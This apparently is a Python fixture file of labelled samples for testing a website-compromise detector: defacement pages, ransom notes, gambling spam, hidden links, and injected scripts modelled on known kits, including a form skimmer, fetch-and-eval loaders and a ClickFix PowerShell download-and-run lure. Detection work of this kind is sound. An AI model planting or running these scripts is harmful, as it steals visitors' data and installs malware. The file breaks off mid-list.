"""A third set, frozen before it was first measured (figures: docs/detection.md): whole pages and pieces in 80 KB portals."""

# ruff: noqa: E501 — markup as it is sent, one piece a line
from __future__ import annotations

import base64

_B64 = {
    "inject": base64.b64encode(b"var s=document.createElement('script');s.src='https://static.cdn-quickload.example/m.js';document.head.appendChild(s);").decode(),
    "ether": base64.b64encode(b"async function load(){let p=new ethers.providers.JsonRpcProvider('https://bsc-dataseed1.binance.org/');eval(atob(await c.get()))}load();").decode(),
    "url": base64.b64encode(b"https://trk-novel.example/5fk2?se_referrer=").decode(),
    "ws": base64.b64encode(b"wss://stat-collect.example/common?source=").decode(),
    "page": base64.b64encode("<center><h1>Hacked by Gió Bấc</h1><p>admin ngủ quên</p></center>".encode()).decode(),
}  # fmt: skip
_CODES = ",".join(
    str(ord(char))
    for char in "var d=document;var s=d.createElement('script');s.src='https://cdn.step-load.example/src/q.js';d.head.appendChild(s);"
)
_XOR = ",".join(str(ord(char) ^ 41) for char in "location.replace('https://vn-cuoc.example/r')")

# Whole answers: (label, kind, language, body)
PAGES: tuple[tuple[str, str, str, str], ...] = (
    # whole-page replaced, many tongues
    ("deface", "whole", "vi", "<html><head><meta charset=utf-8><title>Gió Bấc Team</title></head><body style='background:#000'><center><img src='https://i.ibb.co/zz/gb.gif' width=400><br><span style='color:#fff;font-size:30px'>Website này đã được Gió Bấc kiểm tra bảo mật hộ :)</span><br><i style='color:gray'>Kết quả: rớt. Hẹn gặp lại admin ở lần sau.</i></center><audio src='https://files.example/nhac.mp3' autoplay loop></audio></body></html>"),
    ("deface", "whole", "vi", "<title>Đã Bị Đánh Sập</title><body bgcolor='#000'><div style='text-align:center;color:red;font-family:Courier'><h1>☠ ĐÃ BỊ ĐÁNH SẬP ☠</h1><p>Bởi: D4nChoi_9x - K3nz - Mèo Mun</p><p>Nhắn quản trị: đừng để mật khẩu là 123456 nữa</p></div>"),
    ("deface", "whole", "vi", "<!DOCTYPE html><html lang=vi><head><meta charset=utf-8><title>Trang thông tin điện tử</title><style>body{background:linear-gradient(#111,#300);color:#eee;text-align:center;font-family:monospace}</style></head><body><h2>Chúng tôi đã vào hệ thống của các bạn lúc 2 giờ sáng</h2><p>Không xóa gì cả. Lỗ hổng nằm ở trang hỏi đáp.</p><p>— nhóm Cú Đêm —</p></body></html>"),
    ("deface", "whole", "en", "<html><head><title>[ Hacked ] - Pale Lantern</title></head><body text='#00FF00' bgcolor='#000000'><pre>\n  ####  Pale Lantern  ####\n\n> target: your government\n> status: owned\n> admin: sleeping\n\nirc.lantern.example #pale\n</pre></body></html>"),
    ("deface", "whole", "en", "<title>Security Alert</title><body style='background:#0b0b0b;color:#ddd;font-family:Orbitron'><div id=typed></div><script src=https://cdn.jsdelivr.net/npm/typed.js@2.0.12></script><script>new Typed('#typed',{strings:['Initializing...','Bypassing firewall...','Access granted.','This website has been breached by GrayMoth'],typeSpeed:40})</script><p>Follow us on telegram: t.me/graymoth_official</p>"),
    ("deface", "whole", "en", "<html><body><table width=100% height=100%><tr><td align=center><font face=Impact size=7>R00T3D<br>by the sleepless</font><br><font size=2>zone-h.org / sleepless[at]mail.example</font></td></tr></table></body></html>"),
    ("deface", "whole", "en", "<title>oops</title><body style='background:black'><h1 style='color:red;text-align:center'>YOUR SECURITY IS A JOKE!</h1><p style='color:white;text-align:center'>Next time hire someone who can configure a server.<br>~ ph4ntom.exe</p></body>"),
    ("deface", "whole", "id", "<html><head><title>404 Not Secure!</title></head><body bgcolor=black><center><img src='https://i.postimg.cc/x/anime.png'><font color=white><h2>Halo pak kadis, website-nya kami pinjam sebentar</h2><p>Salam hangat dari anak STM. Perbaiki jalan desa kami dulu baru kami perbaiki website ini</p></font><marquee>Mr.Kopet | Tuan Malam | Si Buta | Lek Dul</marquee></center></body></html>"),
    ("deface", "whole", "id", "<title>Kena Hack</title><body style='background:#000;color:#f33'><h1 align=center>Kasian deh lu kena hack</h1><p align=center>~ Bang Jampang Cyber</p><iframe width='0' height='0' src='https://www.youtube.com/embed/q1?autoplay=1'></iframe></body>"),
    ("deface", "whole", "tr", "<html><head><meta charset='utf-8'><title>Karabulut Tim</title></head><body bgcolor='black'><center><img src='turkbayragi.jpg'><h1><font color='red'>SİSTEMİNİZ ÇÖKERTİLMİŞTİR</font></h1><h3><font color='white'>Bu vatanın sahipsiz olmadığını anlayın. Karabulut Tim / Cengaver - Alperen - Yıldırım</font></h3></center></body></html>"),
    ("deface", "whole", "tr", "<title>.:: Hacked ::.</title><body bgcolor=#000><p align=center><font color=#ff0 size=5>Güvenlik açığınız tespit edilmiş ve index değiştirilmiştir</font></p><p align=center><font color=white>iletişim: kurtadam@mail.example</font></p>"),
    ("deface", "whole", "pt", "<html><head><title>Fomos invadidos?</title></head><body style='background:#000;color:#fff;text-align:center'><h1>SIM, FORAM!</h1><p>Prefeito, cadê o dinheiro da merenda? O povo não é bobo.</p><p>#ColetivoMadrugada</p></body></html>"),
    ("deface", "whole", "pt", "<title>Hacked by Saci-Pererê</title><center><img src=https://i.imgur.com/saci.png><h2>Site zoado com sucesso, kkkkk</h2><p>nenhum arquivo foi deletado, só a index</p></center>"),
    ("deface", "whole", "es", "<html><body bgcolor=black><center><font color=lime size=6>SISTEMA VULNERADO</font><br><font color=white>por Chupacabras_404<br>Saludos al de sistemas que dejó el panel abierto</font></center></body></html>"),
    ("deface", "whole", "ar", "<html dir='rtl'><head><meta charset='utf-8'><title>تم اختراق الموقع</title></head><body style='background:#000;color:#fff;text-align:center'><h1>تم اختراق الموقع من قبل ذئاب الليل</h1><p>لا تقلق يا مدير الموقع، لم نحذف أي ملف. السلام عليكم</p></body></html>"),
    ("deface", "whole", "ar", "<html dir=rtl><body bgcolor=black><center><font color=red size=7>لقد كنا هنا</font><br><font color=green size=5>الحماية ضعيفة جدا - هكر الصحراء</font><br><audio autoplay src=nasheed.mp3></audio></center></body></html>"),
    ("deface", "whole", "fa", "<html dir=rtl><head><title>امنیت شما شکست</title></head><body style='background:black;color:#0f0'><center><h1>سایت شما توسط گروه سایه هک شد</h1><h3>مدیر عزیز، رمز عبور خود را عوض کنید</h3></center></body></html>"),
    ("deface", "whole", "fa", "<html dir=rtl><body bgcolor=#000 text=#fff><center><h2>ما اینجا بودیم</h2><p>باگ سایت شما به مدیریت گزارش شد ولی جوابی نیامد. تیم شب‌گرد</p></center></body></html>"),
    ("deface", "whole", "zh", "<html><head><meta charset=gb2312><title>Hacked by 夜猫</title></head><body bgcolor=black><center><font color=red size=7>网站已被夜猫接管</font><p><font color=white>漏洞很多，管理员该起床了。友情检测，没有删除任何文件。</font></p></center></body></html>"),
    ("deface", "whole", "zh", "<title>安全检测</title><body style='background:#000;color:#0f0;text-align:center'><h1>您的服务器权限已沦陷</h1><p>检测团队：暗影小组 &nbsp; 请及时修补</p>"),
    ("deface", "whole", "ru", "<html><head><meta charset=utf-8><title>Ой</title></head><body style='background:#000;color:#c00;text-align:center'><h1>Сайт взломали. Кто? Мы.</h1><p>Команда «Ночной дозор». Пароль admin:admin — это не пароль.</p></body></html>"),
    ("deface", "whole", "ru", "<title>DEFACED</title><body bgcolor=black><center><img src=https://i.imgur.com/medved.jpg><br><font color=white size=5>Здесь был Вася_Хекер</font><br><font color=gray>привет одноклассникам</font></center>"),
    # claims without the usual words
    ("deface", "silent", "en", "<title>hello world</title><body style='background:#000;color:#fff;text-align:center'><img src='https://media.tenor.com/abc/anonymous-mask.gif'><h2>Knock knock, sysadmin.</h2><p>We walked in through your front door. Lock it next time.</p></body>"),
    ("deface", "silent", "en", "<html><body bgcolor='#000'><center><font color='white' size='6'>your firewall was on vacation, so are we</font><br><font color='red'>- Team Sardine -</font><embed src='http://www.youtube.com/v/aaa&autoplay=1' width=1 height=1></center></body></html>"),
    ("deface", "silent", "vi", "<title>Lời nhắn</title><body bgcolor=black><center><font color=yellow size=6>Web yếu thế này mà cũng đòi lên mạng à?</font><br><font color=white>Ký tên: Thánh Gióng không áo giáp</font><br><img src=https://i.imgur.com/tg.png></center>"),
    ("deface", "silent", "id", "<title>~</title><body bgcolor=black oncontextmenu='return false'><center><h1 style='color:#fff'>Kami datang, kami lihat, kami ganti index-nya</h1><p style='color:red'>No System Is Safe</p><p>- Tim Ronda Malam -</p></center></body>"),
    ("deface", "silent", "vi", "<html><head><title>UBND</title></head><body style='margin:0;background:#000'><img src='https://i.postimg.cc/k/bong.jpg' style='width:100%'><script>document.onkeydown=function(){return false};document.oncontextmenu=function(){return false}</script></body></html>"),
    ("deface", "silent", "tr", "<title>Mesaj</title><body bgcolor=black><center><font color=red size=6>Biz geldik, siz uyuyordunuz</font><br><font color=white>Ya hizmet edersiniz ya gidersiniz. Gök Bayrak Ordusu</font></center>"),
    ("deface", "silent", "ar", "<html dir=rtl><body bgcolor=black><center><img src=https://i.ibb.co/f/flag.png><h2 style=color:#fff>القدس لنا ولن ننسى دماء الشهداء</h2><h3 style=color:lime>فريق فجر المقاومة الالكتروني</h3></center></body></html>"),
    # tiny bodies
    ("deface", "tiny", "en", "0wned by Crumb"), ("deface", "tiny", "en", "<h2>got hacked lol</h2>"), ("deface", "tiny", "en", "Haxed by: p1gl3t"),
    ("deface", "tiny", "vi", "<b>hack cho vui thôi, admin đừng buồn</b>"), ("deface", "tiny", "vi", "web đã bị hack by Tý Sửu"), ("deface", "tiny", "id", "kena hack ya min? wkwk"),
    ("deface", "tiny", "id", "Touched By Bocah Warnet"), ("deface", "tiny", "tr", "Hacklendi ! by Çakal"), ("deface", "tiny", "pt", "<p>invadido pelo Zezinho</p>"), ("deface", "tiny", "es", "hackeado x el Pelón"),
    ("deface", "tiny", "ru", "взломано школьником"), ("deface", "tiny", "zh", "<h1>已被黑</h1>"), ("deface", "tiny", "fa", "هک شد"), ("deface", "tiny", "ar", "مخترق"), ("deface", "tiny", "en", "<title>Hacked</title>"),
    ("deface", "tiny", "en", "<!-- r --><center>Rooted!!</center>"), ("deface", "tiny", "en", "x_x hacked x_x"),
    # encoded
    ("deface", "encoded", "vi", f"<html><body><script>document.body.innerHTML=decodeURIComponent(escape(window.atob('{_B64['page']}')))</script></body></html>"),
    ("deface", "encoded", "en", "<script>document.write(unescape('%u0048%u0061%u0063%u006B%u0065%u0064%u0020%u0062%u0079%u0020%u0042%u0072%u0061%u006D'))</script>"),
    ("deface", "encoded", "en", "<script>var m='6d61726220796220646564656b6361482e2e2e'.match(/../g).reverse().map(function(h){return String.fromCharCode(parseInt(h,16))}).join('');document.write('<h1>'+m+'</h1>')</script><body bgcolor=black>"),
    ("deface", "encoded", "en", "<html><head><meta http-equiv=refresh content='0;url=data:text/html;base64,PHRpdGxlPkhhY2tlZCBieSBCcmFtPC90aXRsZT48aDE+SGFja2VkIGJ5IEJyYW08L2gxPg=='></head></html>"),
    ("deface", "encoded", "en", "<iframe style='border:0;width:100%;height:100vh' srcdoc='&lt;body bgcolor=black&gt;&lt;h1 style=color:red&gt;Hacked by Bramble Crew&lt;/h1&gt;'></iframe>"),
    ("deface", "encoded", "en", "<svg xmlns='http://www.w3.org/2000/svg' width='800' height='300'><rect width='800' height='300' fill='black'/><text x='60' y='140' fill='red' font-size='60'>HACKED BY BRAMBLE</text></svg>"),
    ("deface", "encoded", "en", "<body bgcolor=black><style>h1:before{content:'Hacked by Bramble Crew';color:red}</style><h1></h1></body>"),
    ("deface", "encoded", "en", "<body bgcolor=#000><pre style='color:lime'>H A C K E D   B Y   B R A M B L E</pre></body>"),
    # ransom, parked-and-hijacked
    ("deface", "ransom", "en", "<html><head><title>READ_ME_TO_RESTORE</title></head><body><p>All your websites, databases and backups were moved to our storage. Send 0.15 BTC to bc1q9d4ywgfnd8h43da5tpcxcn6ajv590cg6d3tg6a. Contact: restore-desk@onionmail.example. You have 96 hours, then everything is public.</p></body></html>"),
    ("deface", "ransom", "vi", "<title>Dữ liệu của bạn</title><body bgcolor=black text=white><h1>Dữ liệu của đơn vị đã bị mã hóa</h1><p>Muốn lấy lại, chuyển 1.500 USDT vào ví TXyz1abcDEFghiJKLmnoPQRstuVWxyz23 trong 48 giờ. Sau thời hạn này dữ liệu công dân sẽ được bán.</p></body>"),
    ("deface", "ransom", "ru", "<html><body bgcolor=#000 text=red><h2>Все базы данных скопированы и удалены с сервера.</h2><p>Для восстановления переведите 0,05 BTC на кошелёк 1BoatSLRHtKNngkdXEeobR76b53LETtpyT и напишите в телеграм.</p></body></html>"),
    ("deface", "ransom", "pt", "<title>SEUS DADOS</title><h1>Seu banco de dados foi sequestrado</h1><p>Pague 0.02 bitcoin em 3 dias ou tudo será vazado.</p>"),
    # doorways and spoofed official pages
    ("spam", "official", "vi", "<!DOCTYPE html><html lang=vi><head><title>Cổng thông tin điện tử - 8KBET Trang Chủ Chính Thức | Đăng Nhập 8KBET</title><meta name=description content='8KBET cổng game được cấp phép, tài xỉu, bắn cá, nổ hũ'><link rel=canonical href=https://soyte.thuchanh.gov.vn/8kbet/></head><body><header><img src=/images/quoc-huy.png alt='UBND tỉnh'><h2>CỔNG THÔNG TIN ĐIỆN TỬ TỈNH</h2></header><h1>8KBET - Nhà cái hàng đầu Việt Nam</h1><p>8KBET là nhà cái được tin dùng với tài xỉu, xóc đĩa, bắn cá, nổ hũ, thể thao và lô đề 3 miền. Thành viên mới nhận ngay 128K.</p><a class=btn href=https://8kbet-go.example rel=nofollow>ĐĂNG KÝ</a><a class=btn href=https://8kbet-go.example/app>TẢI APP</a><h2>Câu hỏi thường gặp</h2><p>8KBET có uy tín không? Có, nạp rút 2 phút.</p></body></html>"),
    ("spam", "official", "id", "<html lang=id><head><title>PEMKAB Latihan - Slot Depo 5K Gampang Jackpot Hari Ini</title><meta property=og:title content='Slot Depo 5K'></head><body><h1>Pemerintah Kabupaten Latihan</h1><article><h2>Slot Depo 5K via QRIS</h2><p>Rasakan sensasi main slot depo 5k di situs resmi pemerintah, RTP 98%, scatter hitam turun terus, bonus new member 100.</p><a href=https://masuk.example/depo5k>DAFTAR SEKARANG</a></article></body></html>"),
    ("spam", "doorway", "id", "<html amp lang=id><head><meta charset=utf-8><title>TOTO12: Bandar Toto Macau Pools & Situs Togel Online Resmi</title><link rel=amphtml href=https://toto12-amp.example.pages/><script type=application/ld+json>{\"@type\":\"Product\",\"name\":\"TOTO12\",\"aggregateRating\":{\"ratingValue\":\"4.9\",\"reviewCount\":\"98213\"}}</script></head><body><img src=banner.webp><h1>TOTO12</h1><p>Pasaran togel online dan toto macau pools dengan diskon terbesar.</p><table><tr><td>Minimal Deposit<td>Rp 10.000<tr><td>Metode<td>QRIS, Dana, OVO</table></body></html>"),
    ("spam", "doorway", "tr", "<!DOCTYPE html><html lang=tr-TR><head><title>Marsbahis Giriş 2026 | Yeni Adres</title><meta name=description content='Marsbahis yeni giriş adresi, canlı bahis, slot ve casino oyunları, 500 TL deneme bonusu'></head><body><h1>Marsbahis Yeni Giriş Adresi</h1><p>Canlı bahis ve casino tutkunları için Marsbahis güncel giriş linki. Deneme bonusu veren site.</p></body></html>"),
    ("spam", "doorway", "pt", "<html lang=pt-BR><head><title>777bra - Cassino Online | Fortune Tiger e Aviator</title></head><body><h1>777bra</h1><p>Plataforma 777bra com Fortune Tiger, Aviator, roleta e apostas esportivas. Bônus de cadastro de R$ 77.</p><a href=https://777bra.example>Entrar</a></body></html>"),
    ("spam", "doorway", "en", "<html lang=en><head><title>Parimatch Login - Online Sports Betting & Casino</title><meta name=description content='Parimatch official site: cricket betting, live casino, Aviator. Get 150% bonus'></head><body><h1>Parimatch India</h1><p>Bet on cricket and play live casino and Aviator. Register now and get 150% welcome bonus on first deposit.</p></body></html>"),
    ("spam", "doorway", "ru", "<html lang=ru><head><title>Pin Up Casino - официальный сайт, вход, зеркало</title></head><body><h1>Пин Ап казино</h1><p>Официальный сайт пин ап: слоты, игровые автоматы, live казино. Бонус 120% и 250 фриспинов на первый депозит. Рабочее зеркало на сегодня.</p></body></html>"),
    ("spam", "doorway", "zh", "<html><head><title>&#28595;&#38376;&#20845;&#21512;&#24425;-&#19968;&#32918;&#19968;&#30721;100%&#20934;</title><meta name=keywords content='&#28595;&#38376;&#20845;&#21512;&#24425;,&#19968;&#32918;&#19968;&#30721;,&#24320;&#22870;&#32467;&#26524;'></head><body><h1>&#28595;&#38376;&#20845;&#21512;&#24425;</h1><p>一肖一码期期准，正版资料大全，今晚开奖结果直播。</p></body></html>"),
    ("spam", "doorway", "fa", "<html dir=rtl lang=fa><head><title>سایت بت معتبر | آدرس جدید بدون فیلتر وان ایکس بت</title></head><body><h1>وان ایکس بت</h1><p>پیش بینی ورزشی و بازی انفجار با ضرایب بالا، کازینو زنده، پوکر، بونوس خوش‌آمد ۱۰۰٪.</p></body></html>"),
    ("spam", "doorway", "ar", "<html dir=rtl lang=ar><head><title>تحميل 1xbet للاندرويد - مراهنات رياضية وكازينو</title></head><body><h1>1xbet</h1><p>أفضل موقع مراهنات رياضية في العالم العربي مع كازينو مباشر وسلوتس ومكافأة ترحيبية 130 دولار.</p></body></html>"),
    ("spam", "doorway", "ja", "<html lang=ja><head><title>【楽天市場】エルメス バーキン 25 新品 通販 送料無料</title><meta name=keywords content='エルメス,バーキン,激安,通販'></head><body><h1>エルメス バーキン 25</h1><p>商品価格 ￥12,800 税込 送料無料 在庫あり 即納 レビュー 4.8 カートに入れる</p></body></html>"),
    # redirects
    ("redirect", "alone", "vi", "<html><head><title>302</title></head><body><script>setTimeout(function(){window.top.location.replace('https://sin88-vao.example/?a=gov')},50)</script></body></html>"),
    ("redirect", "alone", "", "<!DOCTYPE html><html><head><meta http-equiv='Refresh' content='3; URL=https://daga-thomo88.example/live'></head><body><img src=https://i.imgur.com/load.gif></body></html>"),
    ("redirect", "alone", "", f"<script>var a=[{_XOR}],s='';for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]^41);eval(s)</script>"),
)  # fmt: skip

# Pieces put into an 80 KB portal: (label, kind, language of the portal, place, html)
PARTS: tuple[tuple[str, str, str, str, str], ...] = (
    ("deface", "inside", "vi", "main", "<div style='background:#000;color:#f00;padding:40px;text-align:center'><h1>Bị Hack Bởi Gấu Trúc Đen</h1><p>Xin lỗi quản trị viên, lỗ hổng ở module tin tức</p></div>"),
    ("deface", "inside", "id", "main", "<h3>Hacked by Kang Sayur - Situs pemerintah kok bolong</h3>"),
    ("deface", "inside", "pt", "end", "<div style='position:fixed;top:0;left:0;right:0;bottom:0;background:#000;z-index:100000'><h1 style='color:red'>Invadido por Curupira</h1></div>"),
    ("deface", "inside", "tr", "title", "Kara Şahin Tarafından Hacklendi"),
    ("deface", "inside", "ru", "main", "<center><font size=7 color=red>САЙТ ВЗЛОМАН</font><br>группа «Барсук»</center>"),
    ("deface", "inside", "zh", "title", "此网站被黑 by 孤鹰"),
    ("deface", "inside", "ar", "main", "<h1 style='color:red'>تم اختراق الموقع بواسطة نسر بغداد</h1>"),
    ("deface", "inside", "vi", "heading", "Hacked By L0ngT3ng - Sở ơi vá lỗi đi"),
    ("deface", "inside", "en", "main", "<marquee bgcolor=black><font color=lime>[+] Owned by Dust_Bunny :: greetz to all my homies [+]</font></marquee>"),
    # injected scripts, the shapes of known kits
    ("script", "kit-balada", "vi", "head", f"<script>eval(String.fromCharCode({_CODES}));</script>"),
    ("script", "kit-balada", "en", "before", f"<script type=text/javascript>eval(String.fromCharCode({_CODES}))</script>"),
    ("script", "kit-ndsw", "id", "end", "<script>;if(typeof ndsw===\"undefined\"){(function(n,t){var r={I:175,h:176,H:154,X:'0x95',J:177,d:142},a=x,e=n();while(!![]){try{var i=parseInt(a(r.I))/1+-parseInt(a(r.h))/2*(parseInt(a(170))/3);if(i===t)break;e['push'](e['shift']())}catch(n){e['push'](e['shift']())}}})(A,556958);var ndsw=true,HttpClient=function(){var n={I:'0xa4'},t={I:'0x89',h:'0xa2',H:'0x8a'},r=x;this[r(n.I)]=function(a,e){var i=new XMLHttpRequest();}},rand=function(){return Math['random']()['toString'](36)['substr'](2)},token=function(){return rand()+rand()};function x(n,t){var r=A();return x=function(n,t){n=n-132;return r[n]},x(n,t)}function A(){var n=['match','onreadystatechange','ush','GET','hostname','//stat.example/wp-content/x.php?id=','cookie','referrer'];return n}}</script>"),
    ("script", "kit-socgholish", "vi", "end", f"<script>;(function(o,q,f,e,w,j){{w=q.createElement(f);j=q.getElementsByTagName(f)[0];w.async=1;w.src=atob(e);j.parentNode.insertBefore(w,j)}})(window,document,'script','{_B64['url']}');</script>"),
    ("script", "kit-socgholish", "pt", "head", "<script>(function(){var a=document.createElement('script');a.async=true;a.src='//'+'tr'+'ack'+'.'+'pool-of-leaves'+'.'+'example'+'/'+'report'+'?r='+btoa(document.referrer);if(!localStorage.getItem('__utma2')){document.head.appendChild(a)}})();</script>"),
    ("script", "kit-clearfake", "en", "head", f"<script src=\"data:text/javascript;base64,{_B64['ether']}\"></script>"),
    ("script", "kit-clearfake", "vi", "end", "<script src=https://cdn.jsdelivr.net/npm/web3@latest/dist/web3.min.js></script><script>(async()=>{const w=new Web3('https://bsc-dataseed.binance.org/');const c=new w.eth.Contract([],'0x7f36D9292e7c70A204faCC2d255475A861487c60');eval(atob(await c.methods.get().call()))})()</script>"),
    ("script", "kit-sign1", "tr", "foot", "<script>const _p='aHR0cHM6Ly8',_u=(Math.floor(Date.now()/6e5)).toString(16);var t=[104^7,116^7,116^7,112^7];(function(d){var e=d.createElement('script');e.src=atob(_p)+_u+'.jscloud.example/'+t.map(function(n){return String.fromCharCode(n^7)}).join('');d.head.appendChild(e)})(document)</script>"),
    ("script", "kit-fakegtm", "es", "head", f"<script>/* Google Tag Manager */(function(w,d){{var i=atob('{_B64['ws']}');var s=new WebSocket(i+encodeURIComponent(location.href));s.onmessage=function(e){{new Function(e.data)()}}}})(window,document)</script>"),
    ("script", "kit-skimmer", "en", "end", "<script>document.addEventListener('submit',function(e){var o={};document.querySelectorAll('input,select').forEach(function(i){o[i.name]=i.value});(new Image()).src='https://checkout-metrics.example/p.gif?d='+btoa(JSON.stringify(o))})</script>"),
    ("script", "kit-cnhijack", "zh", "head", "<script>if(navigator.userAgent.toLocaleLowerCase().indexOf('baidu')==-1){document.title='练习县人民政府'}</script><script>var u=navigator.userAgent;if(/(baidu|sogou|360|sm\\.cn)/i.test(document.referrer)){location.href='https://ky-tiyu88.example/'}</script>"),
    ("script", "kit-cnhijack", "vi", "title", "&#24320;&#20113;&#20307;&#32946;-&#23448;&#26041;&#32593;&#31449;"),
    ("script", "kit-split", "id", "foot", "<script>var _q=['cre','ateEle','ment','scr','ipt'];var z=document[_q[0]+_q[1]+_q[2]](_q[3]+_q[4]);z.setAttribute('src',['ht','tps:','//quick','-tag.example','/t.js'].join(''));document.body.appendChild(z)</script>"),
    ("script", "kit-document-write", "vi", "foot", "<script language=javascript>document.write('<scr'+'ipt src=\"http://b.tongji-x.example.pw/j.php\"></sc'+'ript>')</script>"),
    ("script", "kit-obfuscator", "ru", "end", "<script>var _0x5a1c=['\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f','\\x73\\x72\\x63','\\x61\\x70\\x70\\x65\\x6e\\x64\\x43\\x68\\x69\\x6c\\x64'];(function(_0x1,_0x2){var _0x3=function(_0x4){while(--_0x4){_0x1['push'](_0x1['shift']())}};_0x3(++_0x2)}(_0x5a1c,0x1a3));</script>"),
    ("script", "kit-base64-attr", "ar", "foot", f"<img src=x style=display:none onerror=\"eval(atob('{_B64['inject']}'))\">"),
    ("script", "kit-jsfuck", "en", "foot", "<script>[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]+(!![]+[][(![]+[])[+[]]])[+!+[]+[+[]]]]</script>"),
    ("script", "kit-src", "vi", "head", "<script src='https://weatherplllatform.example.top/scripts/get.js?ver=4.2.1'></script>"),
    ("script", "kit-src", "en", "foot", "<p>Comment<script src=//hk7.cc></script></p>"),
    ("script", "kit-src", "fa", "main", "<h3>عنوان<script src=https://bit.ws/a></script></h3>"),
    ("script", "kit-src", "vi", "end", "<script type='text/javascript' src='http://103.27.236.51:8080/count.js'></script>"),
    ("script", "kit-squat", "id", "head", "<script src='https://www.googletagmanagar.com/gtm.js?id=GTM-K9'></script>"),
    ("script", "kit-squat", "vi", "head", "<script src='https://jquery-js.com/jquery-3.6.min.js'></script>"),
    ("script", "kit-clickfix", "pt", "end", "<div id=vf style='position:fixed;inset:0;z-index:2147483647;background:#fff'><h2>Verifique que você é humano</h2><ol><li>Pressione Windows + R</li><li>Ctrl + V</li><li>Enter</li></ol></div><script>function c(){var t=document.createElement('textarea');t.value='powershell -w h -c iwr https://v.example/x|iex';document.body.appendChild(t);t.select();document.execCommand('copy')}</script>"),
    ("script", "kit-update", "en", "end", "<div style='position:fixed;left:0;top:0;width:100%;height:100%;z-index:99999;background:#f5f5f5'><h1>You are using an older version of Chrome</h1><p>Update now to keep your Chrome browser running smoothly and securely.</p><a href='https://dl-update.example/Chrome_Update.js' download>Update Chrome</a></div>"),
    ("script", "form-odd", "vi", "main", "<form action='https://luu-tru.example.icu/nhan.php' method='post'>Tài khoản <input name=u>Mật khẩu <input type=password name=p><button>Đăng nhập dịch vụ công</button></form>"),
    # hidden links by all ways of CSS
    ("spam", "hidden", "vi", "end", "<div style='position:absolute;left:-99999px'><a href=https://hitclub-a.example>hitclub</a><a href=https://tai-b52.example>tải b52 club</a></div>"),
    ("spam", "hidden", "id", "foot", "<div style='overflow:auto;position:absolute;height:0pt;width:0pt'><a href=https://gacor-a.example>slot thailand</a> <a href=https://gacor-b.example>slot dana</a></div>"),
    ("spam", "hidden", "en", "end", "<div style='filter:alpha(opacity=0);opacity:0.01'><a href=https://cas-a.example>real money casino</a> <a href=https://cas-b.example>online slots</a></div>"),
    ("spam", "hidden", "vi", "foot", "<style>#ft-x1{position:absolute;clip-path:inset(100%)}</style><div id='ft-x1'><a href=https://loto-a.example>lô đề online</a><a href=https://loto-b.example>soi cầu miền bắc</a></div>"),
    ("spam", "hidden", "tr", "end", "<div style='margin-left:-5000px'><a href=https://bahis-a.example>bahis siteleri</a><a href=https://bahis-b.example>deneme bonusu</a></div>"),
    ("spam", "hidden", "pt", "foot", "<p style='color:#fff;background:#fff;font-size:1px'><a href=https://bet-a.example style='color:#fff'>apostas online</a> <a href=https://bet-b.example style='color:#fff'>fortune tiger</a></p>"),
    ("spam", "hidden", "ru", "foot", "<div style='text-indent:-10000px'><a href=https://kaz-a.example>казино онлайн</a> <a href=https://kaz-b.example>вулкан вегас</a></div>"),
    ("spam", "hidden", "vi", "main", "<div style='max-height:0;overflow:hidden'><a href=https://nc-a.example>nhà cái uy tín</a><a href=https://nc-b.example>kèo nhà cái</a></div>"),
    ("spam", "hidden", "zh", "foot", "<div style='display:none'><a href=https://tiyu-a.example>开云体育</a><a href=https://tiyu-b.example>澳门葡京</a><a href=https://tiyu-c.example>皇冠体育</a></div>"),
    ("spam", "hidden", "vi", "end", "<div class='wp-ft-9' style='position:fixed;bottom:-3000px'><a href=https://ax-a.example>phim sex</a><a href=https://ax-b.example>gái gọi hà nội</a></div>"),
    ("spam", "hidden", "en", "end", "<script>document.write(\"<style>.dqx{position:absolute;top:-4821px}</style>\")</script><div class=dqx><a href=https://ph-a.example>buy cialis online</a> <a href=https://ph-b.example>viagra 100mg</a></div>"),
    ("spam", "hidden", "fa", "foot", "<div style='font-size:0;line-height:0'><a href=https://sh-a.example>سایت شرط بندی</a> <a href=https://sh-b.example>بازی انفجار</a></div>"),
    ("spam", "hidden", "vi", "foot", "<span style='visibility:hidden;width:0;height:0;display:inline-block'><a href=https://g8-a.example>game bài đổi thưởng</a> <a href=https://g8-b.example>nổ hũ</a></span>"),
    ("spam", "hidden", "en", "foot", "<div style='transform:translateX(-9999px)'><a href=https://es-a.example>essay writing service</a> <a href=https://es-b.example>write my paper</a></div>"),
    ("spam", "hidden", "ar", "foot", "<details><summary style='font-size:0'>.</summary><a href=https://cz-a.example>كازينو اون لاين</a> <a href=https://cz-b.example>مراهنات رياضية</a></details>"),
    ("spam", "hidden", "vi", "foot", "<object style='position:absolute;left:-2000px;width:1px;height:1px'><a href=https://da-a.example>đá gà trực tiếp</a> <a href=https://da-b.example>đá gà thomo</a></object>"),
    # cloaked titles, visible link blocks, articles
    ("spam", "title", "vi", "title", "F168 - Trang Chủ F168 Đăng Nhập Casino 2026"),
    ("spam", "title", "id", "title", "Daftar Akun Slot Pro Thailand Super Gacor"),
    ("spam", "title", "ru", "title", "1win казино официальный сайт зеркало рабочее"),
    ("spam", "title", "en", "title", "Best Non Gamstop Casinos UK 2026 - No Deposit Free Spins"),
    ("spam", "title", "fa", "title", "بهترین سایت شرط بندی فوتبال با درگاه مستقیم"),
    ("spam", "title", "ja", "title", "ナイキ エアジョーダン 激安 通販 送料無料 - 公式オンラインショップ"),
    ("spam", "links", "vi", "foot", "Liên kết: <a href=https://m88-a.example>M88</a> | <a href=https://fun88-b.example>Fun88</a> | <a href=https://w88-c.example>W88 đăng nhập</a> | <a href=https://keo-d.example>tỷ lệ kèo nhà cái</a>"),
    ("spam", "links", "en", "foot", "Partners: <a href=https://nz-a.example>best online casino nz</a>, <a href=https://nz-b.example>crypto casino</a>, <a href=https://nz-c.example>sports betting sites</a>"),
    ("spam", "article", "vi", "both", "Hướng dẫn đăng ký SHBET nhận 100K miễn phí|<p>SHBET là sân chơi cá cược với casino trực tuyến, xóc đĩa, bắn cá, nổ hũ. Để nhận 100K tân thủ, người chơi bấm <a href=https://shbet-x.example>vào đây</a> đăng ký tài khoản rồi nạp tiền lần đầu.</p>"),
